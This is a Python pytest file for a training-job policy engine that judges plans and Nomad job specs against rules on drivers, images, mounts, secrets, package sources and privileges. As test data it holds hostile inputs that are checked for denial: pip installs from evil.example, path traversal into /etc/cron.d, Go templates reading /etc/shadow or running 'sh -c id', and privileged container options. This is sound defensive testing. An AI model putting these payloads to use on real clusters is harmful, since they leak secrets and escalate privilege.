"""The policy's judgement, rule by rule: of plans, of the jobs that would be registered, of money."""

import copy
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from caravan import TEMPLATES
from caravan.hcl import parse_hcl, render_hcl
from caravan.planning.addresses import address_matches, read_address
from caravan.planning.jobspec import to_job_spec
from caravan.planning.policy import fill, job_denials, plan_denials, spending_denials, within
from caravan.values.errors import PlanError
from caravan.values.plan import (
    Artifact,
    Author,
    CodeSource,
    Constraint,
    Limits,
    Mount,
    OutputSink,
    PlanChange,
    Resources,
    SecretSource,
    Setup,
    TemplateFile,
    Training,
    TrainingPlan,
    apply_changes,
)
from caravan.values.policy import Policies, Policy, PolicyFile, Spending
from caravan.values.references import image_matches, read_image
from tests.fakes.cluster import one_node

BIND = {"mounts": {"bind": ["/srv/scratch"]}}
PYPI = {"sources": {"package_indexes": ["https://pypi.org/simple"]}}
DIGEST = "sha256:" + "a" * 64
FACTS = one_node(gpus=2, builtin=False)
PLAN = TrainingPlan(goal="g", command=("train.py",), driver="docker", image="pytorch/pytorch:2.5")


def policies(**tables: Any) -> Policies:
    return Policies(files=(PolicyFile(path="/etc/caravan/policy.toml", policy=Policy.model_validate(tables)),))


def job_of(plan: TrainingPlan) -> Any:
    spec = to_job_spec(plan, FACTS, run_id="r", attempt=1, job_id="caravan-r-a01", templates=TEMPLATES)
    return parse_hcl(render_hcl(spec, templates=TEMPLATES))


def task_of(job: Any) -> Any:
    return job["TaskGroups"][0]["Tasks"][0]


def denied(plan: TrainingPlan, **tables: Any) -> list[str]:
    """The rules that deny the plan, which deny the job that it becomes as well."""
    rules = policies(**tables)
    found = sorted({d.rule for d in plan_denials(plan, FACTS, rules)})
    assert sorted({d.rule for d in job_denials(job_of(plan), rules)}) == found
    return found


def changed(**changes: Any) -> TrainingPlan:
    return PLAN.model_copy(update=changes)


A_GPU = Resources(gpus=1, gpu_model="Fake 24GB")


@pytest.mark.parametrize(
    ("plan", "allowed", "forbidden"),
    [
        (PLAN, {"jobs": {"drivers": ["docker", "exec"]}}, {"jobs": {"drivers": ["exec"]}}),
        (changed(namespace="ml"), {"jobs": {"namespaces": ["m*"]}}, {"jobs": {"namespaces": ["default"]}}),
        (PLAN, {"jobs": {"namespaces": ["default"]}}, {"jobs": {"namespaces": ["ml"]}}),
        (PLAN, {"jobs": {"node_pools": ["default"]}}, {"jobs": {"node_pools": ["gpu"]}}),
        (PLAN, {"jobs": {"datacenters": ["*"]}}, {"jobs": {"datacenters": ["dc1"]}}),
        (changed(datacenters=("dc1",)), {"jobs": {"datacenters": ["dc?"]}}, {"jobs": {"datacenters": ["dc2"]}}),
        (changed(datacenters=("dc*",)), {"jobs": {"datacenters": ["dc*"]}}, {"jobs": {"datacenters": ["dc1", "dc?"]}}),
        (changed(user="1000"), {"jobs": {"users": ["1000"]}}, {"jobs": {"users": ["1001"]}}),
        (PLAN, {"jobs": {"users": ["*"]}}, {"jobs": {"users": ["?*"]}}),  # the image's own user
        (PLAN, {"jobs": {"networks": ["bridge"]}}, {"jobs": {"networks": ["none"]}}),
        (changed(network_mode="host"), {"jobs": {"networks": ["host"]}}, {"jobs": {"networks": ["bridge"]}}),
        (PLAN, {"images": {"allow": ["pytorch/pytorch:2.*"]}}, {"images": {"allow": ["pytorch/pytorch"]}}),
        (PLAN, {"images": {"registries": ["docker.io"]}}, {"images": {"registries": ["*.example"]}}),
        (changed(image=f"x.example/a@{DIGEST}"), {"images": {"require_digest": True}}, {"images": {"registries": []}}),
        (changed(priority=60), {"limits": {"priority": 60}}, {"limits": {"priority": 59}}),
        (PLAN, {"limits": {"memory_mb": 2048}}, {"limits": {"memory_mb": 2047}}),
        (
            changed(resources=Resources(memory_mb=100, memory_max_mb=300)),
            {"limits": {"memory_mb": 300}},
            {"limits": {"memory_mb": 299}},
        ),
        (PLAN, {"limits": {"cpu_mhz": 1000}}, {"limits": {"cpu_mhz": 999}}),
        (changed(resources=Resources(cores=4)), {"limits": {"cores": 4, "cpu_mhz": 1}}, {"limits": {"cores": 3}}),
        (PLAN, {"limits": {"disk_mb": 1024}}, {"limits": {"disk_mb": 1023}}),
        (changed(limits=Limits(max_run_s=60)), {"limits": {"max_run_s": 60}}, {"limits": {"max_run_s": 59}}),
        (PLAN, {}, {"limits": {"max_run_s": 10**9}}),  # a time limit must be there
        (changed(resources=A_GPU), {"limits": {"gpus": 1}}, {"limits": {"gpus": 0}}),
        (changed(resources=A_GPU), {"limits": {"gpu_models": ["fake*"]}}, {"limits": {"gpu_models": ["A100"]}}),
        (changed(resources=A_GPU), {"limits": {"gpu_models": ["Fake"]}}, {"limits": {"gpu_models": []}}),
        (changed(resources=Resources(gpus=1)), {"limits": {"gpu_models": ["*"]}}, {"limits": {"gpu_models": ["Fake"]}}),
        (
            changed(mounts=(Mount(kind="host", source="data", destination="/data"),)),
            {"mounts": {"host_volumes": ["data"]}},
            {"mounts": {"host_volumes": ["ckpt"]}},
        ),
        (
            changed(mounts=(Mount(kind="csi", source="data", destination="/data"),)),
            {"mounts": {"csi_volumes": ["da*"], "host_volumes": []}},
            {"mounts": {"csi_volumes": []}},
        ),
        (
            changed(mounts=(Mount(kind="bind", source="/srv/data/x", destination="/data"),)),
            {"mounts": {"bind": ["/srv/data/"]}},
            {"mounts": {"bind": ["/srv/dat", "/srv/data/x/y"]}},
        ),
        (
            changed(mounts=(Mount(kind="bind", source="/srv/data", destination="/data"),)),
            {"mounts": {"bind": [], "bind_read_only": ["/srv"]}},
            {"mounts": {"bind": []}},
        ),
        (
            changed(secrets=("HF_TOKEN",)),
            {"secrets": {"nomad": ["nomad/jobs"]}},
            {"secrets": {"nomad": ["nomad/jobs/*"]}},
        ),
        (
            changed(secrets=("HF_TOKEN",), secrets_from=SecretSource(kind="vault", path="secret/data/ml")),
            {"secrets": {"vault": ["secret/data/*"], "vault_roles": ["default"], "nomad": []}},
            {"secrets": {"vault": ["kv/*"]}},
        ),
        (
            changed(code=CodeSource(kind="git", location="https://git.example/ml/repo.git", ref="abc")),
            {"sources": {"code": ["https://git.example/ml/*"]}},
            {"sources": {"code": ["https://git.example/other/*"]}},
        ),
        (
            changed(artifacts=(Artifact(source="https://files.example/data.tar.gz"),)),
            {"sources": {"artifacts": ["https://files.example/"], "code": []}},
            {"sources": {"artifacts": ["https://*.files.example/"]}},
        ),
        (
            changed(env={"PIP_INDEX_URL": "https://pypi.example/simple/"}, setup=Setup(pip=("x",))),
            {"sources": {"package_indexes": ["https://pypi.example/simple"]}},
            {"sources": {"package_indexes": ["https://pypi.org/simple"]}},
        ),
        (
            changed(env={"NVIDIA_VISIBLE_DEVICES": "all"}),
            {"privileges": {"options": ["NVIDIA_VISIBLE_DEVICES"]}},
            {"privileges": {}},
        ),
    ],
)
def test_each_rule(plan: TrainingPlan, allowed: Any, forbidden: Any) -> None:
    assert denied(plan, **allowed) == []
    (found,) = denied(plan, **forbidden)
    assert any(found.startswith(f"{table}.") for table in forbidden)


@pytest.mark.parametrize(
    ("plan", "tables"),
    [
        (changed(limits=Limits(attempts=3)), {"limits": {"attempts": 2}}),
        (changed(outputs=OutputSink(kind="url", location="s3://b/x")), {"sources": {"outputs": ["s3://a/*"]}}),
        (changed(setup=Setup(pip=("x@https://evil.example/x.whl",))), PYPI),
        (changed(setup=Setup(pip=("x[y] @ git+https://evil.example/x.git",))), PYPI),
        (changed(setup=Setup(cmd=("pip install --extra-index-url=https://evil.example/s x",))), PYPI),
        (changed(setup=Setup(pip=("x",))), {"sources": {"package_indexes": ["https://pypi.example/simple"]}}),
        (changed(mounts=(Mount(kind="bind", source="/srv/../etc", destination="/d"),)), {"mounts": {"bind": ["/"]}}),
        (
            changed(mounts=(Mount(kind="bind", source="/srv/${meta.x}", destination="/d"),)),
            {"mounts": {"bind": ["/srv"]}},
        ),
        (changed(templates=(TemplateFile(destination="../../x", data=""),)), {}),
        (changed(artifacts=(Artifact(source="https://a.example/x", destination="/etc"),)), {}),
        (changed(secrets=("A",), secrets_from=SecretSource(kind="vault", path="a", policies=("root",))), {}),
        (changed(driver="raw_exec", outputs=OutputSink(kind="url", location="file:///etc/cron.d")), BIND),
        (changed(driver="raw_exec", outputs=OutputSink(kind="path", location="/etc/cron.d")), BIND),
        (changed(driver="raw_exec", training=Training(output_dir="/etc/cron.d")), BIND),
        (changed(driver="raw_exec", training=Training(output_dir="../../../etc")), BIND),
        (changed(driver="raw_exec", workdir="/srv/scratch/a", training=Training(output_dir="../../x")), BIND),
        (changed(driver="raw_exec", code=CodeSource(kind="image", location="/root")), BIND),
        (changed(driver="raw_exec", workdir="/root"), BIND),
        (changed(driver="raw_exec", workdir="a/../../.."), BIND),
        (
            changed(outputs=OutputSink(kind="url", location="s3://b/x::s3://evil")),
            {"sources": {"outputs": ["s3://b/*"]}},
        ),
        (changed(setup=Setup.model_construct(pip=("-i https://evil.example",), cmd=(), requirements=None)), {}),
    ],
)
def test_what_only_the_plan_tells(plan: TrainingPlan, tables: Any) -> None:
    assert plan_denials(plan, FACTS, policies(**tables))


@pytest.mark.parametrize(
    "plan",
    [
        changed(driver="raw_exec", training=Training(output_dir="../out"), workdir="src"),
        changed(driver="raw_exec", training=Training(output_dir="/srv/scratch/out"), workdir="/srv/scratch"),
        changed(driver="raw_exec", outputs=OutputSink(kind="url", location="file:///srv/scratch/out")),
        changed(driver="raw_exec", outputs=OutputSink(kind="url", location="s3://b/x")),
        changed(training=Training(output_dir="/etc/cron.d"), workdir="/root"),  # the container's own
        changed(driver="exec", training=Training(output_dir="/etc/cron.d")),  # copies in its own root directory
    ],
)
def test_work_in_places_that_are_allowed_or_ones_own(plan: TrainingPlan) -> None:
    assert denied(plan, **BIND) == []


NAMED_ELSEWHERE = [
    *({name: "https://evil.example/s"} for name in ("PIP_index_url", "PIP_PYPI_URL", "PIP_CONFIG_FILE", "PIP_I")),
    *({name: "https://evil.example/s"} for name in ("UV_CONFIG_FILE", "UV_INDEX_X", "UV_DEFAULT_INDEX", "PIP_PROXY")),
    {"UV_FIND_LINKS": "https://pypi.org/simple,https://evil.example/"},
    {"UV_INDEX": "pypi=https://pypi.org/simple evil=https://evil.example/simple"},
]


@pytest.mark.parametrize("env", NAMED_ELSEWHERE)
def test_packages_from_elsewhere_by_the_environment(env: dict[str, str]) -> None:
    assert denied(changed(env=env, setup=Setup(pip=("x",))), **PYPI) == ["sources.package_indexes"]
    lines = "".join(f'export {name} = "{value}"\n' for name, value in env.items())
    told = changed(setup=Setup(pip=("x",)), templates=(TemplateFile(destination="local/e", env=True, data=lines),))
    assert denied(told, **PYPI) == ["sources.package_indexes"]
    assert denied(told, sources={"package_indexes": ["*"]}) == []


def test_the_environment_of_packages_that_says_nothing_of_their_source() -> None:
    env = {
        "PIP_CACHE_DIR": "/c",
        "pip_no_cache_dir": "1",
        "UV_LINK_MODE": "copy",
        "UV_INDEX": "a=https://pypi.org/simple",
    }
    assert denied(changed(env=env, setup=Setup(pip=("x>=1",))), **PYPI) == []


def test_variables_of_templates_and_secrets_are_variables() -> None:
    told = changed(templates=(TemplateFile(destination="local/e", env=True, data="#x\nNVIDIA_VISIBLE_DEVICES=all\n"),))
    assert denied(told, limits={"gpus": 0}) == ["privileges.options"]
    assert denied(changed(templates=(told.templates[0].model_copy(update={"env": False}),))) == []
    given = changed(secrets=("PIP_INDEX_URL",), setup=Setup(pip=("x",)))
    assert denied(given, **PYPI) == ["sources.package_indexes"]  # nobody knows where it leads
    job = job_of(PLAN)
    block = {"EmbeddedTmpl": '{{ print "NVIDIA_VISIBLE" }}_DEVICES=all', "DestPath": "local/x", "Envvars": True}
    task_of(job)["Templates"].append(block)
    assert job_denials(job, policies())


@pytest.mark.parametrize("name", ["AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_S3", "FSSPEC_S3_KEY", "MLFLOW_S3_ENDPOINT_URL"])
def test_results_go_to_no_other_store(name: str) -> None:
    plan = changed(env={name: "https://store.example/a"})
    assert denied(plan, sources={"outputs": ["s3://b/*"]}) == ["sources.outputs"]
    assert denied(plan, sources={"outputs": ["s3://b/*", "https://store.example/"]}) == denied(plan) == []


@pytest.mark.parametrize("path", ["secret/data/ml/../admin/root", "secret/data/ml/./x", "secret/data/ml//x"])
def test_a_secrets_path_does_not_climb(path: str) -> None:
    with pytest.raises(PlanError, match=r"secrets_from\.path"):
        apply_changes(PLAN, [PlanChange(path="secrets_from.path", value=path, by=Author.USER)])
    source = SecretSource(kind="vault").model_copy(update={"path": path})
    rules = policies(secrets={"vault": ["secret/data/ml/*"]})
    plan = changed(secrets=("A",), secrets_from=source)
    assert plan_denials(plan, FACTS, rules)
    assert job_denials(job_of(plan), rules)
    job = job_of(PLAN)
    task_of(job)["Secrets"] = [{"Name": "a", "Provider": "vault", "Path": path}]
    assert job_denials(job, rules)


PRIVILEGES: list[tuple[str, Any, dict[str, Any]]] = [
    ("privileged", True, {"privileged": True}),
    ("privileged", "true", {"privileged": True}),
    ("cap_add", ["SYS_ADMIN"], {"cap_add": ["SYS_ADMIN"]}),
    ("cap_add", ["CAP_sys_admin"], {"cap_add": ["SYS_ADMIN"]}),
    ("devices", [{"host_path": "/dev/fuse"}], {"devices": ["/dev/fuse"]}),
    ("pid_mode", "host", {"host_namespaces": ["pid_mode"]}),
    ("ipc_mode", "container:x", {"host_namespaces": ["ipc_mode"]}),
    ("userns_mode", "host", {"host_namespaces": ["userns_mode"]}),
    ("security_opt", ["seccomp=unconfined"], {"options": ["security_opt"]}),
    ("volume_driver", "local", {"options": ["volume_driver"]}),
    ("some_new_option", {"a": 1}, {"options": ["some_*"]}),
    ("mount", [{"type": "volume", "source": "v", "target": "/x"}], {"options": ["mount volume"]}),
    ("mounts", {"type": "volume", "source": "v", "target": "/x"}, {"options": ["mount volume"]}),
    ("volumes", ["named:/x:ro,nocopy"], {"options": ["volumes ro,nocopy"]}),
]


@pytest.mark.parametrize(("option", "value", "rule"), PRIVILEGES)
def test_what_no_job_of_ours_needs_is_denied_unless_allowed(option: str, value: Any, rule: dict[str, Any]) -> None:
    job = job_of(PLAN)
    task_of(job)["Config"][option] = value
    assert job_denials(job, policies())
    assert job_denials(job, policies(privileges=rule)) == ()
    assert job_denials(job, Policies()) == ()  # without any policy nothing is judged


@pytest.mark.parametrize(
    "volume",
    [
        "/etc:/x",
        "/srv/data/../../etc:/x:ro",
        "/srv:/x",
        "../../../etc:/x",
        "/srv/data:/x:exec",
        "/srv/data",
        "${meta.p}:/x",
    ],
)
def test_a_jobs_own_volumes_keep_to_the_prefixes(volume: str) -> None:
    job = job_of(PLAN)
    task_of(job)["Config"]["volumes"] = ["/srv/data/a:/a", "local/b:/b", volume]
    assert len(job_denials(job, policies(mounts={"bind": ["/srv/data"]}))) == 1


def test_every_task_of_every_group_is_looked_at() -> None:
    job = job_of(PLAN)
    second = copy.deepcopy(job["TaskGroups"][0])
    second["Name"], second["Count"] = "second", 3
    hidden = copy.deepcopy(task_of(job))
    hidden |= {"Name": "hidden", "Driver": "raw_exec", "User": "root", "Kind": "connect-proxy:x"}
    second["Tasks"].append(hidden)
    job["TaskGroups"].append(second)
    found = job_denials(job, policies(jobs={"drivers": ["docker"]}, limits={"memory_mb": 2048 * 7 - 1}))
    assert {d.field for d in found} == {"task hidden driver", "task hidden", "job memory_mb"}
    assert job_denials(job, policies(jobs={"drivers": ["docker", "raw_exec"]}, limits={"memory_mb": 2048 * 7}))


@pytest.mark.parametrize(
    "change",
    [
        {"Type": "system"},
        {"Multiregion": {"Regions": [{"Name": "elsewhere", "Datacenters": ["dc1"], "NodePool": ""}]}},
        {"Region": "elsewhere"},
    ],
)
def test_a_job_that_would_run_elsewhere(change: Any) -> None:
    assert job_denials({**job_of(PLAN), **change}, policies(jobs={"regions": ["global"]}))


TEMPLATES_THAT_READ = [
    '{{ with nomadVar "other/path" }}{{ .X }}{{ end }}',
    '{{ with secret "other/path" }}{{ .Data.X }}{{ end }}',
    '{{ $p := "other/path" }}{{ with nomadVar $p }}{{ end }}',
    '{{ with nomadVar (printf "other/%s" "path") }}{{ end }}',
    '{{ file "/etc/shadow" }}',
    '{{ key "consul/key" }}',
    '{{ plugin "sh" "-c" "id" }}',
    '{{ range nomadVarList "other" }}{{ end }}',
    '{{ with nomadVar "oth\\x65r/path" }}{{ end }}',
    '{{ with secret "other/path"',
    '{{ print "a" "/*" (file "/etc/shadow") "*/" }}',
    '{{ print "}} {{" (file `x`) }}',
    '{{/* a */ file "/etc/shadow" }}',
    '{{ with secret "secret/x" "key=value" }}{{ end }}',
    '{{ "key=value" | secret "secret/x" }}',
    '{{ with nomadVar "nomad/jobs@other" }}{{ end }}',
    '{{ with secret "secret/ml/../root" }}{{ end }}',
]


@pytest.mark.parametrize("text", TEMPLATES_THAT_READ)
def test_templates_read_only_secrets_that_are_allowed(text: str) -> None:
    rules = policies(secrets={"nomad": ["nomad/jobs"], "vault": ["secret/*"]})
    job = job_of(changed(secrets=("HF_TOKEN",)))
    assert job_denials(job, rules) == ()
    block = {"EmbeddedTmpl": text, "DestPath": "local/x", "LeftDelim": "{{", "RightDelim": "}}", "SourcePath": ""}
    task_of(job)["Templates"].append(block)
    assert job_denials(job, rules)
    block["LeftDelim"], block["RightDelim"] = "[[", "]]"  # then it is plain text
    assert job_denials(job, rules) == ()


def test_templates_that_only_show_what_they_have() -> None:
    job = job_of(PLAN)
    text = '{{- /* file "x" */ -}}{{ with nomadVar "nomad/jobs" }}{{ .A.Value | toJSON }}{{ end }}{{ print "}}" }}'
    task_of(job)["Templates"].append({"EmbeddedTmpl": text, "DestPath": "local/x"})
    assert job_denials(job, policies(secrets={"nomad": ["nomad/jobs"]})) == ()


@pytest.mark.parametrize(
    ("where", "change"),
    [
        ("job", {"Periodic": {"Spec": "* * * * *"}}),
        ("job", {"ParameterizedJob": {"Payload": "optional"}}),
        ("job", {"TaskGroups": ["x"]}),
        ("group", {"Count": -5}),
        ("group", {"Count": "many"}),
        ("group", {"Volumes": ["x"]}),
        ("task", {"Services": [{"Connect": {"Native": True}}]}),
        ("task", {"Identities": [{"Name": "v", "Audience": ["vault.io"]}]}),
        ("task", {"Env": ["A=b"]}),
        ("task", {"VolumeMounts": [{"Volume": "v", "PropagationMode": "bidirectional"}]}),
        ("task", {"Resources": {"MemoryMB": -1}}),
        ("task", {"Resources": {"Devices": [{"Name": "nvidia/gpu", "Count": -9}]}}),
        ("config", {"mount": [[{"type": "bind", "source": "/etc"}]]}),
    ],
)
def test_what_no_job_of_ours_says(where: str, change: Any) -> None:
    job = job_of(PLAN)
    task = task_of(job)
    {"job": job, "group": job["TaskGroups"][0], "task": task, "config": task["Config"]}[where].update(change)
    assert job_denials(job, policies())


def test_a_template_from_a_file_of_the_node_is_a_mount() -> None:
    job = job_of(PLAN)
    task_of(job)["Templates"][0]["SourcePath"] = "/etc/shadow"
    assert job_denials(job, policies(mounts={"bind": ["/srv"]}))


def test_the_runs_own_directory_needs_no_rule() -> None:
    facts, own = one_node(), "/home/u/.caravan/runs/abc"
    plan = changed(
        code=CodeSource(kind="archive", location=f"{own}/code.tar.gz"),
        outputs=OutputSink(kind="path", location=f"{own}/outputs"),
    )
    rules = policies(mounts={"bind": []})
    assert plan_denials(plan, facts, rules, own=own) == ()
    assert len(plan_denials(plan, facts, rules)) == 2
    away = changed(outputs=OutputSink(kind="path", location=f"{own}/../../../.ssh"))
    assert plan_denials(away, facts, rules, own=own)


def test_gpus_by_their_models_in_a_job() -> None:
    rules = policies(limits={"gpu_models": ["A100", "NVIDIA L4"]})
    job = job_of(changed(resources=Resources(gpus=2)))
    (device,) = task_of(job)["Resources"]["Devices"]

    def with_constraint(operand: str, value: str) -> bool:
        device["Constraints"] = [{"LTarget": "${device.model}", "Operand": operand, "RTarget": value}]
        return not job_denials(job, rules)

    assert with_constraint("=", "NVIDIA A100-SXM4-80GB")
    assert with_constraint("regexp", r"^(NVIDIA\ L4|NVIDIA\ A100\ 80GB\ PCIe)$")
    assert not with_constraint("regexp", r"^(NVIDIA\ L4|NVIDIA\ H100\ PCIe)$")
    assert not with_constraint("regexp", "A100")  # matches more than it says
    assert not with_constraint("regexp", r"^(NVIDIA\ L4|.*)$")
    assert not with_constraint("!=", "NVIDIA L4")
    device["Name"] = "nvidia/gpu/NVIDIA A100 80GB PCIe"
    assert not job_denials(job, rules)


def test_a_denial_says_field_value_rule_file_and_the_nearest() -> None:
    (denial,) = plan_denials(PLAN, FACTS, policies(images={"allow": ["pytorch/pytorch:2.4", "python:3"]}))
    assert denial.line() == (
        "Policy: image = pytorch/pytorch:2.5 is not allowed by images.allow in /etc/caravan/policy.toml. "
        "The nearest allowed: pytorch/pytorch:2.4."
    )


def test_all_policies_must_allow_it() -> None:
    strict, loose = policies(limits={"gpus": 0}).files[0], policies(limits={"gpus": 8}).files[0]
    other = loose.model_copy(update={"path": "/home/u/policy.toml"})
    plan = changed(resources=A_GPU)
    for files in ((strict, other), (other, strict)):
        (found,) = plan_denials(plan, FACTS, Policies(files=files))
        assert found.file == "/etc/caravan/policy.toml"


@pytest.mark.parametrize(
    "document",
    [
        {"job": {}},
        {"jobs": {"driver": ["docker"]}},
        {"images": {"allow": "ubuntu"}},
        {"mounts": {"bind": ["data"]}},
        {"mounts": {"bind": ["/data/../etc"]}},
        {"mounts": {"bind": ["/data/*"]}},
        {"sources": {"code": ["git.example"]}},
        {"sources": {"code": ["https://git.example@evil.example/"]}},
        {"limits": {"gpus": -1}},
        {"money": {"per_day_usd": float("nan")}},
        {"jobs": {"drivers": [""]}},
    ],
)
def test_a_slip_of_the_pen_is_refused(document: Any) -> None:
    with pytest.raises(ValidationError):
        Policy.model_validate(document)


@pytest.mark.parametrize(
    ("reference", "full"),
    [
        ("ubuntu", "docker.io/library/ubuntu:latest"),
        ("ubuntu:22.04", "docker.io/library/ubuntu:22.04"),
        ("pytorch/pytorch", "docker.io/pytorch/pytorch:latest"),
        ("index.docker.io/ubuntu", "docker.io/library/ubuntu:latest"),
        ("https://ghcr.io/a/b:1", "ghcr.io/a/b:1"),
        ("GHCR.io:443/a/b", "ghcr.io/a/b:latest"),
        ("localhost:5000/a", "localhost:5000/a:latest"),
        (f"a/b:1@{DIGEST}", f"docker.io/a/b:1@{DIGEST}"),
        (f"a/b@{DIGEST}", f"docker.io/a/b@{DIGEST}"),
    ],
)
def test_an_images_full_name(reference: str, full: str) -> None:
    image = read_image(reference)
    assert image is not None
    assert image.text() == full
    assert read_image(full) == image


@pytest.mark.parametrize(
    "text", ["", "a b", "A/b", "a/b:", "a/b@", "a@sha256:12", "a/../b", "${meta.image}", "file:///x", "a//b", "-a"]
)
def test_what_is_no_image(text: str) -> None:
    assert read_image(text) is None


@pytest.mark.parametrize(
    ("pattern", "reference", "allowed"),
    [
        ("*", "anything/at-all", True),
        ("ubuntu", "ubuntu:latest", True),
        ("ubuntu", "ubuntu:22.04", False),
        ("ubuntu:*", "ubuntu:22.04", True),
        ("pytorch/*", "pytorch/pytorch:2.5", True),
        ("pytorch/*", "ghcr.io/pytorch/pytorch:2.5", False),
        ("*/pytorch/*", "ghcr.io/pytorch/pytorch:2.5", True),
        ("*.example/ml/*", "evil.io/x.example/ml/y", False),
        ("*.example/ml/*", "a.example/ml/y:1", True),
        ("a/b:1", f"a/b:1@{DIGEST}", False),  # docker takes the digest, whatever the tag says
        ("a/b:*", f"a/b:1@{DIGEST}", True),
        (f"a/b@{DIGEST}", f"a/b:9@{DIGEST}", True),
        ("a/b@sha256:*", "a/b:1", False),
    ],
)
def test_patterns_of_images(pattern: str, reference: str, *, allowed: bool) -> None:
    image = read_image(reference)
    assert image is not None
    assert image_matches(image, pattern) is allowed


@pytest.mark.parametrize(
    ("pattern", "address", "allowed"),
    [
        ("https://git.example/ml/*", "https://git.example/ml/a.git", True),
        ("https://git.example/ml/*", "https://git.example@evil.example/ml/a.git", False),
        ("https://git.example/ml/*", "https://evil.example/https://git.example/ml/a", False),
        ("https://*.example/", "https://evil.com/x.example/", False),
        ("https://git.example/ml/", "https://git.example/ml", True),
        ("https://git.example/ml/", "https://git.example/mlx", False),
        ("https://git.example/ml/*", "https://git.example/ml/../other/a", False),
        ("https://git.example/ml/*", "https://git.example/ml/%2e%2e/other", False),
        ("https://git.example", "https://git.example:8443/x", False),
        ("https://git.example:8443", "https://git.example:8443/x", True),
        ("https://git.example", "git::https://GIT.example:443/x?ref=1", True),
        ("ssh://git.example/ml/*", "git@git.example:ml/a.git", True),
        ("https://github.com/org/*", "github.com/org/repo", True),
        ("https://git.example", "http://git.example/x", False),
        ("s3://bucket/*", "s3://bucket/a/b", True),
        ("*", "whatever this is", True),
        ("https://*", "whatever this is", False),
    ],
)
def test_patterns_of_addresses(pattern: str, address: str, *, allowed: bool) -> None:
    read = read_address(address)
    assert (pattern == "*" or (read is not None and address_matches(read, pattern))) is allowed


@given(st.text(max_size=40), st.text(max_size=20))
def test_reading_never_fails(text: str, pattern: str) -> None:
    image, address = read_image(text), read_address(text)
    if image:
        image_matches(image, pattern)
        assert read_image(image.text()) == image
    if address:
        address_matches(address, pattern)


def test_money() -> None:
    rules = policies(money={"per_run_usd": 10, "per_day_usd": 20, "per_month_usd": 30})

    def rule_names(**spending: Any) -> list[str]:
        return [d.rule.removeprefix("money.") for d in spending_denials(Spending(**spending), rules)]

    assert rule_names(run_usd=10, ahead_usd=10, day_usd=10, month_usd=20) == []
    assert rule_names(run_usd=11, ahead_usd=5, day_usd=1, month_usd=1) == ["per_run_usd"]
    assert rule_names(run_usd=5, ahead_usd=5, day_usd=16, month_usd=26) == ["per_day_usd", "per_month_usd"]
    assert rule_names() == ["per_run_usd", "per_day_usd", "per_month_usd"]  # not known is over
    assert spending_denials(Spending(), policies()) == ()


def test_plans_are_made_for_what_the_policy_leaves() -> None:
    rules = policies(jobs={"drivers": ["docker"]}, limits={"gpu_models": ["A100"], "max_run_s": 60})
    left = within(FACTS, rules)
    assert set(left.nodes[0].drivers) == {"docker"}
    assert left.nodes[0].devices == ()
    assert within(FACTS, policies(jobs={"node_pools": ["other"]})) == FACTS  # the denial says why
    plan = apply_changes(PLAN, fill(PLAN, FACTS, rules))
    assert plan.limits.max_run_s == 60
    assert plan.set_by("limits.max_run_s") is Author.CLUSTER


def test_what_the_policy_wants_named_is_named_but_never_against_a_person() -> None:
    rules = policies(
        jobs={"datacenters": ["dc1"], "users": ["10*", "1000"]}, limits={"gpu_models": ["Fake 24GB"], "max_run_s": 60}
    )
    plan = changed(resources=Resources(gpus=1))
    filled = apply_changes(plan, fill(plan, FACTS, rules))
    assert plan_denials(filled, FACTS, rules) == ()
    assert (filled.user, filled.datacenters, filled.resources.gpu_model) == ("1000", ("dc1",), "Fake 24GB")
    said = apply_changes(plan, [PlanChange(path="limits.max_run_s", value=120, by=Author.USER)])
    assert apply_changes(said, fill(said, FACTS, rules)).limits.max_run_s == 120


def test_a_constraint_is_no_way_around() -> None:
    plan = changed(resources=Resources(gpus=1), constraints=(Constraint(attribute="${device.model}", value="A100"),))
    assert denied(plan, limits={"gpu_models": ["A100"]})
